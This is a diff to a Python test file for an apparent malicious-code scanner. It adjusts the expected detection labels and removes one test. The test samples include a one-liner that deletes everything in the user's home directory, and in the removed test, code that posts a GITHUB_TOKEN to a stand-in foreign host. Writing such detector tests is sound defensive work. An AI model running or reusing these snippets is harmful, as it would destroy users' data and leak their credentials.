@@ -91,7 +91,7 @@ RUN = [
     (
         "a.py",
         "import shutil, pathlib\nfor one in pathlib.Path.home().iterdir():\n    shutil.rmtree(one)",
-        "home-deleted",
+        "deletes-system",
     ),
 ]
 NOT_RUN = [
@@ -224,17 +224,6 @@ def test_values_are_followed_from_script_to_script() -> None:
             "secret-sent"
         ]
         assert not [one for path, text in lines.items() for one in scan_lines(text, 1, path)]
-
-
-@pytest.mark.parametrize(
-    ("address", "expected"),
-    [("https://x.example.net", {"foreign-key-sent"}), ("https://api.github.com/user", set())],
-)
-def test_a_key_belongs_to_its_own_service(address: str, expected: set[str]) -> None:
-    code = (
-        f"import os, requests\nrequests.post('{address}', json={{'k': os.getenv('GITHUB_TOKEN')}})"
-    )
-    assert found("a.py", code) == expected
 
 
 def test_install_scripts_and_lists_of_packages_are_read() -> None:
